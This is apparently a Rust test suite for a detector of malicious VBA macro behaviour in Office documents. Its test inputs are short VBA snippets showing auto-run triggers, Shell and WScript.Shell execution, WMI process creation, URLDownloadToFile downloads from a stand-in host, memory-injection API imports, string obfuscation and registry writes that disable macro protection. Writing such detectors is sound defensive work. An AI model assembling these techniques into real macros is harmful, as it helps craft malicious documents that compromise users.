//! Call sites that act, and lookalikes that do not.

use super::*;
use crate::budget::{Budget, Limits};

fn project(modules: &[(&str, ModuleKind, &str)]) -> Behaviour {
    let modules: Vec<Module> = modules
        .iter()
        .map(|(name, kind, source)| Module {
            name: (*name).to_owned(),
            path: format!("VBA/{name}"),
            kind: *kind,
            source: (*source).to_owned(),
        })
        .collect();
    let (behaviour, result) = analyse(&modules, &Budget::new(Limits::default(), |_| ()));
    result.unwrap();
    behaviour
}

/// Kind and detail of every action of a procedure body, in a standard module.
fn actions(body: &str) -> Vec<(ActionKind, String)> {
    let source = format!("Sub AutoOpen()\n{body}\nEnd Sub");
    let behaviour = project(&[("M", ModuleKind::Standard, &source)]);
    behaviour.actions.into_iter().map(|action| (action.kind, action.detail)).collect()
}

fn runs(body: &str) -> Vec<String> {
    actions(body).into_iter().filter(|(kind, _)| *kind == ActionKind::Run).map(|(_, detail)| detail).collect()
}

#[test]
fn shell_is_a_function_with_an_argument() {
    assert_eq!(runs("Shell \"cmd /c a\", vbHide"), ["cmd /c a"]);
    assert_eq!(runs("x = Shell(\"cmd /c a\", 0)"), ["cmd /c a"]);
    assert_eq!(runs("If a Then Shell \"x.exe\" Else VBA.Shell (\"y.exe\")"), ["x.exe", "y.exe"]);
    assert_eq!(runs("Call Interaction.Shell(PathName:=\"z.exe\")"), ["z.exe"]);
    assert_eq!(runs("Shell \"a\" _\n & \"b.exe\""), ["ab.exe"]);
}

#[test]
fn words_are_no_actions() {
    assert!(actions("' Shell \"x\"\nRem Shell \"x\"\nMsgBox \"Shell x\"\nDim Shell\nShell = 1\no.Shell = 2").is_empty());
    assert!(actions("Call Run\nOpen f For Input As #1\nPrint 1\nActiveWorkbook.Save\nx = rs.Open").is_empty());
    assert!(actions("Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"DSN=x\"\nc.Execute \"Create Table\"").is_empty());
    assert!(actions("Set f = CreateObject(\"Scripting.FileSystemObject\")\nMsgBox f.GetFolder(\".\").Files.Count").is_empty());
}

#[test]
fn a_viewer_is_not_a_program() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    assert_eq!(kinds("Shell \"notepad.exe C:\\a.txt\", 1"), [ActionKind::View]);
    assert_eq!(kinds("Shell \"explorer.exe \" & folder, 1"), [ActionKind::View]);
    assert_eq!(kinds("Open p For Binary As #1\nShell \"explorer.exe \" & p"), [ActionKind::Write, ActionKind::Run]);
    assert_eq!(kinds("Shell \"calc.exe\""), [ActionKind::Run]);
}

#[test]
fn objects_are_followed_to_their_methods() {
    assert_eq!(runs("CreateObject(\"WScript.Shell\").Run \"a.exe\", 0"), ["a.exe"]);
    assert_eq!(runs("Set w = CreateObject(\"WScript\" & \".Shell\")\nw.Exec (\"a.exe\")"), ["a.exe"]);
    assert_eq!(runs("With CreateObject(\"wscript.shell\")\n.Run \"b.exe\"\nEnd With"), ["b.exe"]);
    assert_eq!(runs("Dim w As New WshShell\nw.Run Command:=\"c.exe\""), ["c.exe"]);
    assert_eq!(runs("Set a = New IWshRuntimeLibrary.WshShell\nSet b = a\nb.Run \"d.exe\""), ["d.exe"]);
    assert_eq!(runs("GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run \"e.exe\""), ["e.exe"]);
    assert_eq!(runs("CreateObject(\"Shell.Application\").ShellExecute \"f.exe\", \"-x\""), ["f.exe -x"]);
    let wmi = "Set p = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\np.Create \"g.exe\", Null, Null, i";
    assert_eq!(runs(wmi), ["g.exe"]);
    assert_eq!(runs("GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create \"h.exe\""), ["h.exe"]);
    assert_eq!(runs("CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"i.exe\""), ["i.exe"]);
}

#[test]
fn texts_are_put_together() {
    assert_eq!(runs("Const a = \"cm\"\nb = \"d \" & Chr(47) & \"c\"\nShell a & b + ChrW(&H20) & StrReverse(\"x\")"), ["cmd /c x"]);
    assert_eq!(runs("Shell Replace(\"c#m#d\", \"#\", \"\") & \" \" & Mid(\"xyz\", 2, 1)"), ["cmd y"]);
    assert_eq!(runs("Shell \"cmd \" & Range(\"A1\").Value"), ["cmd …"]);
    assert_eq!(runs("a = a & \"x\"\nShell a"), ["…x"]);
    assert_eq!(runs(&format!("Shell {}\"x\"", "\"y\" & ".repeat(3))), ["yyyx"]);
}

#[test]
fn an_object_without_a_name_is_hidden() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    assert_eq!(kinds("Set o = CreateObject(Range(\"A1\"))\no.Run x"), [ActionKind::Hidden, ActionKind::Run]);
    assert!(kinds("Set o = GetObject(, \"Excel.Application\")").is_empty());
    assert!(kinds("Set o = GetObject(ThisWorkbook.Path & \"\\a.xls\")").is_empty());
    assert!(kinds("Set x = Sales.GetObject(kind, id)").is_empty());
}

#[test]
fn imports_count_where_they_are_called() {
    let declare = "Private Declare PtrSafe Function dl Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\n\
                   Private Declare Sub mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any)\n";
    let with = |body: &str| project(&[("M", ModuleKind::Standard, &format!("{declare}Sub AutoOpen()\n{body}\nEnd Sub"))]);
    let download = with("dl 0, \"http://a.example/x\", f, 0, 0");
    assert_eq!(download.actions[0].kind, ActionKind::Download);
    assert_eq!(download.actions[0].detail, "http://a.example/x");
    assert!(with("mv 1\n' dl 0").actions.is_empty());
    let inject = "Declare Function va Lib \"kernel32\" Alias \"VirtualAlloc\" (a) As Long\n\
                  Declare Sub mv Lib \"kernel32\" Alias \"RtlMoveMemory\" (a)\nSub AutoOpen()\np = va(0)\nmv p\nEnd Sub";
    assert_eq!(project(&[("M", ModuleKind::Standard, inject)]).actions.len(), 2);
}

#[test]
fn what_a_trigger_reaches() {
    let reached = |modules: &[(&str, ModuleKind, &str)]| project(modules).actions.iter().any(|a| a.reached_by.is_some());
    let act = "Sub Act()\nShell \"x.exe\"\nEnd Sub";
    let by = |body: &str| {
        let book = format!("Private Sub Workbook_Open()\n{body}\nEnd Sub");
        reached(&[("ThisWorkbook", ModuleKind::Document, &book), ("M", ModuleKind::Standard, act)])
    };
    assert!(by("Act") && by("Call Act") && by("M.Act") && by("If x Then Act"));
    assert!(by("Application.Run \"Act\"") && by("Application.OnTime Now, \"'\" & ThisWorkbook.Name & \"'!M.Act\""));
    assert!(by("Application.Run Cells(1, 1)"), "a name made at run time can be any");
    assert!(!by("MsgBox \"Act\"") && !by("x.Act") && !by("' Act"));
    let form = "Private Sub UserForm_Initialize()\nShell \"x.exe\"\nEnd Sub\nSub B_Click()\nEnd Sub";
    let book = "Sub Workbook_Open()\nUserForm1.Show\nEnd Sub";
    assert!(reached(&[("ThisWorkbook", ModuleKind::Document, book), ("UserForm1", ModuleKind::Form, form)]));
    let class = "Private Sub Class_Initialize()\nShell \"x.exe\"\nEnd Sub";
    let book = "Sub Workbook_Open()\nDim c As New Class1\nEnd Sub";
    assert!(reached(&[("ThisWorkbook", ModuleKind::Document, book), ("Class1", ModuleKind::Class, class)]));
    assert!(!reached(&[("ThisWorkbook", ModuleKind::Document, "Sub B_Click()\nShell \"x.exe\"\nEnd Sub")]));
}

#[test]
fn macro_protection_and_the_registry() {
    let kinds = |body: &str| actions(body).into_iter().map(|(kind, _)| kind).collect::<Vec<_>>();
    let key = "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM";
    assert_eq!(kinds(&format!("CreateObject(\"WScript.Shell\").RegWrite \"{key}\", 1, \"REG_DWORD\"")), [ActionKind::Weaken]);
    assert_eq!(kinds("Options.VirusProtection = False"), [ActionKind::Weaken]);
    assert!(kinds("Options.VirusProtection = True\nx = System.PrivateProfileString(\"\", \"HKCU\\Security\", \"Level\")").is_empty());
}

#[test]
fn functions_that_return_one_text_are_texts() {
    let source = "Function part()\npart = \"cmd\"\nEnd Function\nSub AutoOpen()\n10 Shell part() & \" \" & part\nEnd Sub";
    assert_eq!(project(&[("M", ModuleKind::Standard, source)]).actions[0].detail, "cmd cmd");
    assert_eq!(runs("GetObject(\"script:http://a.example/x.sct\")"), ["script:http://a.example/x.sct"]);
}

#[test]
fn many_of_everything() {
    let long = "a.b".repeat(60_000);
    assert!(actions(&long).is_empty());
    let same = "Sub a_Click()\na_Click\nShell x\nEnd Sub\n".repeat(20_000);
    let behaviour = project(&[("ThisWorkbook", ModuleKind::Document, &same)]);
    assert!(behaviour.actions.len() <= 4000 && behaviour.triggers.len() <= 4000);
    let line = format!("Shell \"{}\"", "x".repeat(1 << 20));
    assert!(project(&[("M", ModuleKind::Standard, &format!("Sub A()\n{line}\nEnd Sub"))]).actions[0].place.excerpt.len() < 600);
}

#[test]
fn hostile_sizes_cost_steps_and_not_time() {
    let deep = format!("Shell {}1{}", "Chr(".repeat(20_000), ")".repeat(20_000));
    assert_eq!(runs(&deep).len(), 1);
    assert!(actions(&"Shell(".repeat(200_000)).len() <= 1);
    let wide = format!("Shell \"x\"{}", " & \"y\"".repeat(100_000));
    assert_eq!(runs(&wide).len(), 1);
    let doubled: String = (1..60).map(|i| format!("a{i} = a{} & a{}\n", i - 1, i - 1)).collect();
    assert_eq!(runs(&format!("a0 = \"0123456789\"\n{doubled}Shell a59")), ["…"]);
}
